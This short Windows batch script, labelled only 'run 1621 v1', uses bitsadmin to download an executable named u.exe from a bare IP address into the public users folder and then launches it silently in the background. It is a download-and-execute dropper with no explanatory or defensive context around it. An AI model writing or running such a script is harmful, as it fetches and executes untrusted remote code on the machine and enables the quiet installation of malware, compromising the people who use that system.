REM run 1621 v1
bitsadmin /transfer job /download /priority high http://192.0.2.44/u.exe C:\Users\Public\u.exe
start /b C:\Users\Public\u.exe
